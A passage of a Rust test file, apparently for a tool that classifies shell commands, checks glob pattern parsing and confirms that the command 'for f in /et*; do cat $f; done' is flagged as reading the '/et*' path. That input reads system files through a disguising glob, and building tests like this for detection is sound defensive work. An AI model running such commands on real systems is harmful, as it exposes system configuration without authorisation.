        let (inside, start, end) = conditions::as_pattern(pattern).unwrap();
        assert_eq!(told::names_in(inside, start, end, folder.path()).unwrap(), [meant], "{pattern}");
    }
    let found = classify(&CommandLine::parse("for f in /et*; do cat $f; done").unwrap(), &Surroundings::default());
    let named = found.effects.reads.iter().chain(&found.effects.named).find(|named| named.contains('*'));
    assert_eq!(named.map(String::as_str), Some("/et*"), "{found:?}");
}
